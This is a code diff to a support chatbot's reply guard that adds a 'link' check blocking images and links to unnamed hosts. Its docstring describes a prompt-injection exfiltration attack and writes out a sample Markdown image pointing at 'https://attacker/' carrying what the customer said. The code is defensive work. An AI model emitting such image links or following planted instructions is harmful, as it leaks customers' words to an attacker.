@@ -5,6 +5,10 @@ was held to (`commitment`); DPD's bot swore at a customer and wrote a poem about
 (`profanity`, `insult`, `disparagement`); a Chevrolet dealer's bot called a $1 car "a legally binding offer,
 no takesies backsies" (`commitment`); NYC's MyCity bot told businesses they could break the law
 (`unlawful_advice`). `competitor` and `system_prompt_leak` cover the other ways a reply embarrasses the shop.
+`link` answers to prompt-injection exfiltration (a planted instruction makes the model write
+`![](https://attacker/?q=<what the customer said>)`, and the customer's own browser sends it when the page
+shows the picture) and to phishing links: a reply may link only to sites this turn's passages or the brand's
+contacts name, and never shows a picture.
 
 Commitments come in two sorts (core/policy.py lists them): grounded kinds (amounts, percentages, refunds,
 "free", replacements, price matches...) may be stated only when the sentence's own cited passage states the
@@ -24,6 +28,7 @@ from collections.abc import Mapping, Sequence
 from dataclasses import dataclass
 from functools import lru_cache
 from typing import Any, Literal
+from urllib.parse import urlsplit
 
 from agent.guards.support import Sentence, cited_texts, drop_sentences, quantities, split_sentences
 from core.policy import Policy, lower_literals
@@ -41,6 +46,7 @@ RAILS = (
     "competitor",
     "system_prompt_leak",
     "unlawful_advice",
+    "link",
 )
 _EVIDENCE_MAX = 120
 
@@ -730,6 +736,72 @@ _UNLAWFUL = _rx(
 )
 
 
+# --- links and pictures -------------------------------------------------------------------------------------
+
+_IMAGE = re.compile(r"(?<!\\)!\[|<img\b", re.IGNORECASE)
+"""A Markdown picture (inline or by reference) or an HTML one: a page that shows it asks the server for it."""
+_TARGETS = re.compile(
+    r"\]\(\s*<?(?P<md>[^\s)>]+)"  # [text](target)
+    r"|^\s*\[[^\]]+\]:\s*<?(?P<ref>[^\s>]+)"  # [label]: target
+    r"|<(?P<auto>[a-z][a-z0-9+.-]{1,31}:[^\s<>]+)>"  # <scheme:target>
+    r"|(?P<bare>\b(?:https?|ftp)://[^\s<>()\[\]\"'`]+|(?<![\w.@/-])www\.[^\s<>()\[\]\"'`]+)",
+    re.IGNORECASE | re.MULTILINE,
+)
+"""Whatever a Markdown page makes a link of (GitHub's dialect: bare http(s) and www. addresses too)."""
+_HOST_IN_TEXT = re.compile(
+    r"(?:\b[a-z][a-z0-9+.-]*://|(?<![\w.-])www\.|@)(?P<host>[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\.[a-z0-9-]+)+)",
+    re.IGNORECASE,
+)
+"""Hosts a text names: in addresses (`https://help.shop.example/...`, `www.shop.example`) and emails."""
+
+
+_LINKISH = re.compile(r"\]\(|\]:|<[a-z]|://|www\.|!\[", re.IGNORECASE)
+"""A cheap test first: most replies hold nothing a page would make a link or a picture of."""
+
+
+def _host(target: str) -> str | None:
+    """The host a link target leads to; "" for a relative link (this site); None when it cannot be read."""
+    target = target.strip().rstrip(".,;:!?")
+    if target.lower().startswith("www."):
+        target = "//" + target
+    try:
+        parts = urlsplit(target)
+        host = parts.hostname or ""
+    except ValueError:
+        return None
+    if parts.scheme.lower() == "mailto":
+        host = parts.path.rpartition("@")[2].lower()
+    elif parts.scheme and parts.scheme.lower() not in {"http", "https", "ftp"}:
+        return None  # javascript:, data:, tel:... never a link a reply needs to write
+    return host.lower().removeprefix("www.").rstrip(".")
+
+
+def _named(host: str, known: frozenset[str]) -> bool:
+    return any(host == name or host.endswith("." + name) for name in known)
+
+
+@lru_cache(maxsize=256)
+def _known_hosts(texts: tuple[str, ...]) -> frozenset[str]:
+    return frozenset(
+        match.group("host").lower().removeprefix("www.")
+        for text in texts
+        for match in _HOST_IN_TEXT.finditer(text)
+    )
+
+
+def _links(raw: str, index: int, known: frozenset[str]) -> list[Violation]:
+    """A picture anywhere, or a link to a site no passage of this turn (nor the brand's contacts) names."""
+    image = _IMAGE.search(raw)
+    if image:
+        return [Violation("link", _ev(raw[image.start() :]), index, "remove_sentence", "image")]
+    for match in _TARGETS.finditer(raw):
+        target = next(value for value in match.groups() if value)
+        host = _host(target)
+        if host is None or (host and not _named(host, known)):
+            return [Violation("link", _ev(target), index, "remove_sentence", "link")]
+    return []
+
+
 # --- the check ---------------------------------------------------------------------------------------------
 
 
@@ -749,7 +821,12 @@ def check_reply(
     rules = _rules(policy)
     tone = policy.tone
     violations: list[Violation] = []
+    linkish = _LINKISH.search(reply) is not None
+    known = _known_hosts((*passages.values(), *policy.brand.contacts)) if linkish else frozenset()
     for sentence in split_sentences(reply):
+        raw = reply[sentence.start : sentence.end]
+        if linkish and _LINKISH.search(raw):
+            violations.extend(_links(raw, sentence.index, known))
         text = sentence.text
         if not text:
             continue
